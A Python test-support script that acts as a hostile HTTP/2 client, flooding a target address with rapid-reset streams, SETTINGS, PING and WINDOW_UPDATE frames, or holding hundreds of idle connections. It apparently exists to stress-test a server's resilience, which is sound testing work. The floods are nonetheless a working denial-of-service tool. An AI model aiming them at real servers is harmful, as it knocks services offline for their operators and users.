"""A hostile client over TCP for a process of its own: `python hostile_client.py ADDRESS ATTACK`, until killed.

It prints a line when the attack has begun. If a server closes a connection, it makes a new one.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import threading
import time
from collections.abc import Iterator
from itertools import count, islice
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))  # for tests/support

from support.hostile.peer import PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, message
from support.raw_client import data, headers


def rapid_reset() -> Iterator[bytes]:
    for stream in count(1, 2):
        yield headers(stream, pseudo_path="/s/Wait") + frame(RST_STREAM, 0, stream, (8).to_bytes(4))


def many_streams() -> Iterator[bytes]:
    for stream in count(1, 2):
        yield headers(stream, pseudo_path="/s/Wait")


def calls() -> Iterator[bytes]:
    for stream in count(1, 2):
        yield headers(stream, pseudo_path="/s/Echo") + data(stream, message(b"x"), end=True)


def settings() -> Iterator[bytes]:
    yield from (headers(stream, pseudo_path="/s/Wait") for stream in range(1, 200, 2))
    while True:
        yield frame(SETTINGS, 0, 0)


def windows() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0, b"".join((4).to_bytes(2) + size.to_bytes(4) for size in range(1000)))


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8))


def window_updates() -> Iterator[bytes]:
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4))


ATTACKS = {each.__name__: each for each in (rapid_reset, many_streams, calls, settings, windows, pings, window_updates)}


def attack(host: str, port: int, name: str) -> None:
    """Attack on one connection."""
    made = socket.create_connection((host, port))
    threading.Thread(target=read, args=(made,), daemon=True).start()
    frames = ATTACKS[name]()
    with contextlib.suppress(OSError), made:
        made.sendall(PREFACE + frame(SETTINGS, 0, 0))
        while True:
            made.sendall(b"".join(islice(frames, 500)))


def read(made: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while made.recv(65_536):
            pass


def main(address: str, name: str) -> None:
    host, _, port = address.rpartition(":")
    print("begun", flush=True)
    if name == "silence":
        kept = [socket.create_connection((host, int(port))) for _ in range(400)]
        time.sleep(3600)
        assert kept
    while True:
        attack(host, int(port), name)
        time.sleep(0.01)


if __name__ == "__main__":
    main(*sys.argv[1:])
